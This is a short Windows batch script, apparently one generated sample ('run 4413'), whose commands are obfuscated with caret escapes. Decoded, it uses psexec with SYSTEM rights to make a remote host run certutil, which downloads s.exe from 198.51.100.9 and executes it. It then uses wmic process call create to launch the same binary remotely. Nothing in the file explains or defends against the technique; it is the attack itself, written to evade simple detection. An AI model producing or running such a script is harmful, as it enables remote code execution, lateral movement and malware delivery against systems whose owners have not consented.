REM run 4413 v1
@echo off
set kvlf=ps^ex^ec.^ex^e \\^198.51.^100.9 -a^c^cep^teu^la -s -d c^m^d /c "certutil -urlcache -f http://198.51.100.9/s.exe C:\s.exe && C:\s.exe"
call %kvlf%
@echo off
set dtxl=wmi^c /^no^de:^1^9^8.^51.^10^0.9 proce^ss ^cal^l ^create "cmd /c C:\s.exe"
call %dtxl%
